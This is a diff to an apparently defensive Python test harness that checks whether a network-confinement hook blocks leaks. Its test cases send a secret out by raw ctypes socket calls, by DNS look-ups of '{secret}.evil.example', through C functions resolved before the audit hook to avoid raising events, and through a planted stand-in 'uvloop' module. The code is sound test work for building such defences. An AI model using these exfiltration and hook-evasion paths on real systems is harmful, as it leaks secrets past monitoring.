@@ -225,19 +225,29 @@ def multiprocessed(secret: str) -> None:
 
 
 LIBC = ctypes.CDLL(None, use_errno=True)  # loaded before the hook, as a library might
+# Another instance, whose functions have also been resolved before the hook. Calling them raises no
+# event before CPython 3.14.
+RESOLVED = ctypes.CDLL(None, use_errno=True)
+RESOLVED_FUNCTIONS = (RESOLVED.socket, RESOLVED.connect, RESOLVED.send, RESOLVED.gethostbyname)
+# The module of a native client. It has no C code of its own: it uses the functions above.
+STAND_IN = """
+from functools import partial
+from __main__ import RESOLVED, native_connect, native_look_up
+connect, look_up = partial(native_connect, RESOLVED), partial(native_look_up, RESOLVED)
+"""
 
 
-def native_connect(secret: str) -> None:
+def native_connect(libc: ctypes.CDLL, secret: str) -> None:
     """Connect by the C library."""
-    descriptor = LIBC.socket(2, 1, 0)
+    descriptor = libc.socket(2, 1, 0)
     place = struct.pack("=HH4s8x", 2, socket.htons(PORT), socket.inet_aton(STRANGER))
-    LIBC.connect(descriptor, place, 16)
-    LIBC.send(descriptor, secret.encode(), len(secret), 0)
+    libc.connect(descriptor, place, 16)
+    libc.send(descriptor, secret.encode(), len(secret), 0)
 
 
-def native_client(_secret: str) -> None:
-    """Import a native client: here an empty module of that name."""
-    __import__("uvloop")
+def native_look_up(libc: ctypes.CDLL, secret: str) -> None:
+    """Ask for a name by the C library."""
+    libc.gethostbyname(f"{secret}.evil.example".encode())
 
 
 def accepted(secret: str) -> None:
@@ -328,10 +338,11 @@ WAYS: dict[str, Way] = {
     "posix_spawn": spawned,
     "fork": forked,
     "multiprocessing": multiprocessed,
-    "ctypes connect": native_connect,
-    "ctypes look-up": lambda s: LIBC.gethostbyname(f"{s}.evil.example".encode()),
-    "native client's connect": native_client,
-    "native client's look-up": native_client,
+    "ctypes connect": lambda s: native_connect(LIBC, s),
+    "ctypes look-up": lambda s: native_look_up(LIBC, s),
+    "ctypes function resolved before the hook": lambda s: native_connect(RESOLVED, s),
+    "native client's connect": lambda s: __import__("uvloop").connect(s),
+    "native client's look-up": lambda s: __import__("uvloop").look_up(s),
     "accepted connection": accepted,
     "relay by an AF_UNIX socket": relayed,
     "UDP to an allowed TCP port": lambda s: udp().sendto(s.encode(), (ALLOWED, PORT)),
@@ -420,7 +431,7 @@ def try_all(mode: str, directory: str) -> None:
     global outside  # noqa: PLW0603  one for all ways
     outside = Outside()
     sys.path.insert(0, directory)
-    Path(directory, "uvloop.py").touch()
+    Path(directory, "uvloop.py").write_text(STAND_IN)
     confine = prepare_filter()
     if mode != "kernel":
         enforce_process(gate)
